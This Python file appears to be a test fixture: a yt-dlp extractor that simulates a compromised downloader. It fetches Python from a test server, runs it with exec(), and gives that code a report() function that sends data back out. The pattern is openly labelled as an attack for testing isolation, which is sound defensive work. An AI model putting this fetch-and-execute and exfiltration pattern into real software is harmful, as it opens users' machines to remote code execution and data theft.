"""Stands for a yt-dlp that a hostile page has taken over: `/hostile/NAME` of a test's source answers the Python text to run.

The text sees `given` (JSON of the test), `report(text)`, which reaches the test through egress, and `source`. It may set
`info`, which the extractor then returns, or `failure`, the message with which the extraction fails; `first` is True in the
first run of a folder.
"""

import json
import os

from yt_dlp.extractor.common import InfoExtractor
from yt_dlp.networking import Request
from yt_dlp.utils import ExtractorError


class HostileIE(InfoExtractor):
    IE_NAME = 'hostile'
    _VALID_URL = r'(?P<source>https?://[^/?#]+)/hostile/(?P<id>\w+)'

    def _real_extract(self, url):
        source, name = self._match_valid_url(url).group('source', 'id')
        attack = json.loads(self._download_webpage(url, name))

        def report(text):
            sent = Request(f'{source}/report/{name}', data=str(text).encode(), headers={'content-type': 'text/plain'})
            self._downloader.urlopen(sent).read()

        seen = {'given': attack['given'], 'report': report, 'source': source, 'first': is_first()}
        exec(compile(attack['python'], f'hostile-{name}', 'exec'), seen)  # noqa: S102 - running the text is the attack
        if 'info' in seen:
            return {'id': name, 'title': name, **seen['info']}
        raise ExtractorError(seen.get('failure', 'The attack is over'), expected=True)


def is_first():
    """Marks the folder: a second try of the same attempt finds the mark of the first."""
    try:
        os.close(os.open('hostile-ran', os.O_CREAT | os.O_EXCL))
    except FileExistsError:
        return False
    return True
